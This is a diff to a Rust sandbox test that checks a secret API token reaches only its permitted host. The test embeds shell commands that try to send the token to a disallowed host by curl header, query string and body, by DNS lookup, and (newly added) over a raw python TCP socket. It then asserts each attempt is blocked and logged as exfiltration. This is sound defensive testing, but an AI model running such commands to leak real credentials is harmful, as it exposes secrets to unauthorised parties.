@@ -294,6 +294,7 @@ fn secrets_reach_only_their_host_and_never_the_sandbox_or_the_records() {
          echo other=$(curl -s -o /dev/null -w '%{{http_code}}' -H \"Authorization: Bearer $API_TOKEN\" https://other.test:{p}/ok.txt)\n\
          echo query=$(curl -s -o /dev/null -w '%{{http_code}}' \"https://other.test:{p}/ok.txt?t=$API_TOKEN\")\n\
          echo body=$(curl -s -o /dev/null -w '%{{http_code}}' --data \"k=$API_TOKEN\" https://other.test:{p}/upload)\n\
+         echo raw=$(python3 -c 'import socket,sys\ns = socket.create_connection((\"127.0.0.1\", int(sys.argv[1])))\ns.sendall(b\"hello \" + sys.argv[2].encode())\ntry:\n print(len(s.recv(100)))\nexcept OSError:\n print(\"reset\")' {p} $API_TOKEN)\n\
          echo dns=$(python3 -c 'import socket,sys\ntry:\n socket.getaddrinfo(sys.argv[1] + \".good.test\", 443); print(\"resolved\")\nexcept OSError: print(\"refused\")' $API_TOKEN)\n",
         marker = "TOKENVALUE",
     );
@@ -337,6 +338,8 @@ fn secrets_reach_only_their_host_and_never_the_sandbox_or_the_records() {
         assert_eq!(line(&o, k), "403", "{k}: {}", o.dump());
     }
     assert_eq!(line(&o, "dns"), "refused", "{}", o.dump());
+    // A raw connection to an address a cidr rule allows is scanned too.
+    assert!(["0", "reset"].contains(&line(&o, "raw")), "{}", o.dump());
     let v = o.violations().join("\n");
     assert_eq!(v.matches("secret_exfiltration: HTTP").count(), 3, "{v}");
     assert!(v.contains("carries the placeholder of secret API_TOKEN (in the headers), which may only go to good.test"), "{v}");
@@ -344,6 +347,11 @@ fn secrets_reach_only_their_host_and_never_the_sandbox_or_the_records() {
     assert!(v.contains("(in the body)"), "{v}");
     assert!(
         v.contains("secret_exfiltration: DNS A query carries the placeholder of secret API_TOKEN"),
+        "{v}"
+    );
+    assert!(
+        v.contains("secret_exfiltration: TCP connection to 127.0.0.1:")
+            && v.contains("the stream carries the placeholder of secret API_TOKEN; cut before it went upstream"),
         "{v}"
     );
     // The value is nowhere: not in any output, the trace or the audit log.
